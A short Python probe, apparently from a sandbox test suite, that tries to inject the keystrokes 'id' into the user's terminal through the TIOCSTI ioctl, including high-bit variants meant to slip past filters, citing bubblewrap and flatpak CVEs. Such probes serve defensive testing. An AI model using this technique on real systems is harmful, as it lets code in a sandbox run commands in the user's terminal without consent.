# Pushes keystrokes into the user's terminal: TIOCSTI, and with high bits set that a careless filter compares
# (CVE-2017-5226, bubblewrap; CVE-2019-10063, flatpak). The terminal itself says what arrived.
# range: plain=root with=terminal
import ctypes
import os
from contextlib import suppress

from common import call, finish, hit

terminals = [0, 1, 2]
with suppress(OSError):
    terminals.append(os.open("/dev/tty", os.O_RDWR))
    hit("/dev/tty is the user's terminal")
for descriptor in terminals:
    for request in (0x5412, 0x5412 | 1 << 32, 0x5412 | 1 << 40, 0x5412 | 0xFFFFFFFF << 32):
        for letter in b"id\n":
            if call("ioctl", descriptor, ctypes.c_ulong(request), bytes([letter]))[0] == 0:
                hit(f"TIOCSTI {request:#x} on {descriptor}")
finish()
